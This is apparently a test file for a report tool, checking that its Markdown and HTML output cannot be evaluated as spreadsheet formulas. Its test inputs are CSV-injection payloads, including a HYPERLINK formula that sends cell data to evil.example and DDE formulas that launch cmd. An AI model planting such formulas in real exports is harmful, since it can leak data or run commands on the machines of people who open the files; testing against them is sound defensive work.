import test from 'ava';
import { reporters } from '../../src/agent/reporters/index.js';
import type { OpenApiDocument } from '../../src/cloud/platform/http/openapi-document.js';
import { renderReport } from '../../src/report/index.js';
import { operationsOf } from '../helpers/api-document/index.js';
import { startTestApp } from '../helpers/app.js';
import { call } from '../helpers/call.js';
import { shows } from '../helpers/shows.js';
import { hostileReport } from '../report/hostile.js';

/** What spreadsheets take for a formula at the beginning of a cell (OWASP, CSV injection). */
const FORMULAS = [
  '=HYPERLINK("http://evil.example?x="&A1,"more")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd',
  '+1+cmd',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const FORMULA = /^[\s]*[=+@-]/;

test('no format of ours is one whose cells a spreadsheet evaluates', async (t) => {
  shows(t, 32);
  t.deepEqual(Object.keys(reporters).sort(), ['html', 'json', 'junit', 'markdown', 'terminal']);
  const app = await startTestApp();
  t.teardown(() => app.stop());
  const { body } = await call(app.url, 'GET', '/api/openapi.json');
  const types = operationsOf(body as unknown as OpenApiDocument).flatMap(({ operation }) =>
    Object.values(operation.responses).flatMap(({ content }) => Object.keys(content)),
  );
  t.false(types.some((type) => /csv|tab-separated|excel|spreadsheet/.test(type)));
});

test('in tables that people copy, no cell of Markdown begins as a formula', (t) => {
  shows(t, 32);
  for (const formula of FORMULAS) {
    const markdown = renderReport(
      'markdown',
      hostileReport(() => formula),
    );
    const rows = markdown.split('\n').filter((line) => line.startsWith('|'));
    t.true(rows.length > 3);
    const cells = rows.flatMap((row) => row.split(/(?<!\\)\|/).slice(1, -1));
    t.deepEqual(
      cells.filter((cell) => FORMULA.test(cell) && !/^[\s:-]+$/.test(cell)),
      [],
      formula,
    );
  }
});

test('a page that is opened in a spreadsheet says that its cells are text', (t) => {
  shows(t, 32);
  for (const formula of FORMULAS) {
    const page = renderReport(
      'html',
      hostileReport(() => formula),
    );
    t.regex(page, /<style>[\s\S]*\btd\{[^}]*mso-number-format:"\\@"[\s\S]*<\/style>/);
    t.false(page.includes('x:fmla'), 'the one attribute that makes a formula');
  }
});
